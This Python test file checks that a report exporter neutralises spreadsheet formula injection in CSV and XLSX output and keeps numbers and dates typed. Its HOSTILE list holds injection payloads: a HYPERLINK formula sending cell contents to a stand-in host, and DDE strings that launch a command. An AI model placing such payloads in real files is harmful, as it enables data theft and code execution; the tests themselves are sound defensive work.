"""Reports in spreadsheets: numbers stay numbers, and nothing that a visitor or a customer wrote is ever run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import msgspec
import pytest
from tests.analytics.samples import overview
from tests.conftest import imported

from scanly.analytics.reports.answer import Report, Row, Totals
from scanly.analytics.reports.sheets import as_csv, as_xlsx, cells, change, columns

RUNS = '=HYPERLINK("http://x.example/?"&A1;"a")'
# What a spreadsheet may look through before it sees the sign; full-width forms are signs to some.
HOSTILE = [
    *(f"{sign}{RUNS[1:]}" for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠")),
    *(
        f"{before}{RUNS}"
        for before in ("\t", "\r", "\n", " ", "  ", "\u00a0", "\u3000", '"', '""', ' "', "\u200b", "\ufeff")
    ),
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
HARMLESS = ["table-7", "2026-11-22", "Chai & Co", "10", "-5", "+49", "3.5", "a=b", "नमस्ते", "'quoted'"]
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def report(texts, by="referrer"):
    rows = [Row(text, 7 - n % 3, 5, None, text, n) for n, text in enumerate(texts)]
    totals = Totals("2026-10-01", "2026-10-30", 9, 8, 7, {"person": 9})
    return Report(
        "", "", "2026-11-01", "2026-11-30", "UTC", 12, 11, 9, {"person": 12}, by, rows, before=totals
    )


def sheets(data):
    """The cells of each sheet as (type, text) by name, read from the XML; asserts that none is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        strings = []
        for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")):
            strings.append("".join(part.text or "" for part in item.iter(f"{NS}t")))
        names = [
            each.get("name")
            for each in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(f"{NS}sheet")
        ]
        found = {}
        for number, name in enumerate(names, 1):
            sheet = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            assert not list(sheet.iter(f"{NS}f"))
            assert [each.get("ySplit") for each in sheet.iter(f"{NS}pane")] == ["1"], "the header is frozen"
            assert all(float(each.get("width")) > 8 for each in sheet.iter(f"{NS}col"))
            rows = []
            for row in sheet.iter(f"{NS}row"):
                values = [(cell.get("t", "n"), cell.find(f"{NS}v")) for cell in row]
                rows.append(
                    [strings[int(v.text)] if t == "s" else float(v.text) for t, v in values if v is not None]
                )
            found[name] = rows
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_csv_cell_begins_with_what_a_spreadsheet_runs(text):
    assert len(HOSTILE) >= 20
    (_, line) = csv.reader(io.StringIO(as_csv(report([text])), newline=""))
    for cell in line[:2]:
        assert cell == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_cells_that_nothing_runs_stay_as_they_are(text):
    (_, line) = csv.reader(io.StringIO(as_csv(report([text]))))
    assert line == [text, text, "7", "5", "0", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula(text):
    page = msgspec.structs.replace(overview(), title=text, sentences=[text], attribution=text)
    found = sheets(as_xlsx(page, report([text])))
    written = "".join(found["referrer"][1][0].split())
    assert written.removeprefix("_x000D_").startswith("".join(text.split())[:5].removeprefix("_x000D_"))
    assert found["referrer"][1][2:5] == [7, 5, 0]


def test_a_workbook_has_typed_cells_and_a_sheet_for_each_section():
    page = overview()
    found = sheets(as_xlsx(page))
    assert list(found) == ["summary", "day", *(section.by for section in page.sections)]
    days = found["day"]
    assert days[0] == columns(page.days)
    assert len(days) == len(page.days.rows) + 1
    first = days[1]
    assert first[1] == page.days.rows[0].scans
    assert first[0] == pytest.approx(46_000, abs=1000), "a day is a date to a spreadsheet"
    assert ["scans", page.days.scans] in found["summary"]


def test_what_was_asked_for_stands_first():
    asked = report(["Pune"], "city")
    page = overview()
    names = list(sheets(as_xlsx(page, asked)))
    assert names[:2] == ["summary", "city"]
    assert len(names) == len(set(names))


def test_a_reader_that_is_not_ours_reads_the_same_workbook():
    calamine = imported("python_calamine")
    page = overview()
    book = calamine.CalamineWorkbook.from_filelike(io.BytesIO(as_xlsx(page)))
    rows = book.get_sheet_by_name("day").to_python()
    assert [row[0].isoformat() for row in rows[1:]] == [row.key for row in page.days.rows]
    assert [row[1] for row in rows[1:]] == [row.scans for row in page.days.rows]


def test_columns_that_say_nothing_are_left_out():
    rows = [Row("a", 3), Row("b", 1)]
    plain = Report("", "", "2026-11-01", "2026-11-30", "UTC", 4, 4, 4, {}, "kind", rows)
    assert (columns(plain), cells(plain)) == (["kind", "scans"], [["a", 3], ["b", 1]])
    assert re.fullmatch(r"kind,scans\r\na,3\r\nb,1\r\n", as_csv(plain))


def test_a_change_is_a_share_of_what_was_before():
    assert (change(15, 10), change(5, 10), change(3, 0), change(0, None)) == (0.5, -0.5, None, None)
